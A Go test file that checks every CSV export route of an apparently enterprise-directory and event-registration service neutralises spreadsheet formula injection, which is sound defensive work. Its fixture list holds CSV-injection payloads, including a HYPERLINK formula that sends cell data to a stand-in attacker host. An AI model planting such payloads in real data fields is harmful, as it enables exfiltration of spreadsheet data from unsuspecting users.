package handlers

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"duijie/domain"
)

// hostileCells are values an attacker types into a name or title so that a spreadsheet opening
// the export runs them (OWASP CSV injection).
var hostileCells = []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "\r=CR"}

// TestEveryCSVRouteNeutralisesFormulas sweeps every route of the table that answers CSV: a cell
// a spreadsheet would run must come out quoted. A new CSV route fails here until it has a case.
func TestEveryCSVRouteNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	// Hostile enterprise names and contacts (directory export) and attendee names (registrations).
	for _, v := range hostileCells {
		e := f.addEnterprise(v, "L1")
		e.Contact.Name, e.Products = v, []string{v}
		if err := f.store.Enterprises.Update(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	ev := f.newEvent("L1", 10, domain.EventPublished, 100)
	as := make([]domain.Attendee, len(hostileCells))
	for i, v := range hostileCells {
		as[i] = domain.Attendee{Name: v, Position: v, Mobile: "13800000000", Email: fmt.Sprintf("p%d@example.cn", i)}
	}
	ent := f.addEnterprise(hostileCells[0], "L1")
	if _, _, err := f.store.Registrations.Register(ctx, &domain.Registration{EventID: ev.ID, EnterpriseID: ent.ID,
		EnterpriseName: hostileCells[1], Attendees: as[:3]}, f.clock.Now()); err != nil {
		t.Fatal(err)
	}

	// Concrete paths per CSV route, and whether the file must carry hostile data (templates
	// carry only the header).
	cases := map[string]struct {
		paths    []string
		withData bool
	}{
		"/api/v1/enterprises.csv":              {[]string{"/api/v1/enterprises.csv"}, true},
		"/api/v1/events/:id/registrations.csv": {[]string{"/api/v1/events/" + ev.ID + "/registrations.csv"}, true},
		"/admin/import/:kind.csv":              {[]string{"/admin/import/enterprises.csv", "/admin/import/leads.csv"}, false},
	}
	swept := 0
	for _, rt := range f.h.routes() {
		if rt.method != "GET" || !strings.Contains(rt.path, ".csv") {
			continue
		}
		c, ok := cases[rt.path]
		if !ok {
			t.Errorf("CSV route %s has no case in this sweep: add one", rt.path)
			continue
		}
		for _, p := range c.paths {
			swept++
			res := f.do(asAdmin, "GET", p, "").wantStatus(t, 200)
			if ct := res.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
				t.Errorf("%s: Content-Type %q", p, ct)
			}
			rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(res.body, []byte("\uFEFF")))).ReadAll()
			if err != nil {
				t.Fatalf("%s: not CSV: %v", p, err)
			}
			quoted := 0
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s: cell %q would run as a formula", p, cell)
					}
					if strings.HasPrefix(cell, "'") {
						quoted++
					}
				}
			}
			if c.withData && quoted == 0 {
				t.Errorf("%s: no hostile cell in the file, the sweep proves nothing:\n%s", p, res.body)
			}
		}
	}
	if swept == 0 {
		t.Fatal("no CSV route found")
	}
}
